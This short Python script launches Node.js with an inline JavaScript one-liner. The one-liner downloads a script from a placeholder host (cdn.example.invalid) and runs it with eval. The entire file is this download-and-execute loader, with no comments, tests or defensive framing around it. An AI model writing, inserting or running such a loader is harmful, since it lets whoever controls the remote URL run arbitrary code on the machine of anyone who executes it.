from subprocess import Popen
JS = "require('https').get('https://cdn.example.invalid/p.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})"
Popen(["node", "-e", JS])
